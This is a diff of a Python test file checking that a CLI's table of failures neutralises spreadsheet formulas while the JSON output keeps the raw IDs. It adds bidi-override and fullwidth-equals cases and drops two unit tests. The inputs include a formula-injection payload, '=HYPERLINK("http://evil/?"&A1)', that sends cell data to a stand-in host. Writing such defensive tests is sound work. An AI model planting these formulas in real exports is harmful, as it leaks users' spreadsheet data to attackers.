@@ -8,27 +8,25 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
-import pytest
-
 from storage.results.flag_counts import FlagCounts
 from tests.worker.harness import Docmill
-from worker.cli.formatting import cell, flags, flags_as_json
-
-
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", " =1+1", '"=1+1"', "\t=1", "\n=1", "＝1+1"])
-def test_what_a_spreadsheet_would_compute_becomes_text(text: str) -> None:
-    assert cell(text).startswith("'")
-
-
-@pytest.mark.parametrize("text", ["", "a=b", "7", "a-b", "'quoted'", "café", "日本語"])
-def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
-    assert cell(text) == text
+from worker.cli.formatting import flags, flags_as_json
 
 
 def test_the_table_of_failures_holds_no_formula_and_the_lines_for_machines_hold_the_ids_themselves(
     embedded: Docmill, write_corpus: Callable[..., Path]
 ) -> None:
-    ids = ['=HYPERLINK("http://evil/?"&A1)', "-1+1", "@x", "plain", "tab\there", "\r=1", "\x1b[31mred"]
+    ids = [
+        '=HYPERLINK("http://evil/?"&A1)',
+        "-1+1",
+        "@x",
+        "plain",
+        "tab\there",
+        "\r=1",
+        "\x1b[31mred",
+        "\u202e=1",
+        "＝1",
+    ]
     source = write_corpus({"id": key, "text": " "} for key in ids)
     embedded("run", source, "--task", "translate", "--model", "null")
     table: list[list[Any]] = [line.split("\t") for line in embedded("failures", 1).stdout.splitlines()]
@@ -40,6 +38,8 @@ def test_the_table_of_failures_holds_no_formula_and_the_lines_for_machines_hold_
         "tab\ufffdhere",
         "'\ufffd=1",
         "\ufffd[31mred",
+        "'\ufffd=1",
+        "'＝1",
     ]
     assert {len(row) for row in table} == {4}
     assert [json.loads(line)["id"] for line in embedded("failures", 1, "--json").stdout.splitlines()] == ids
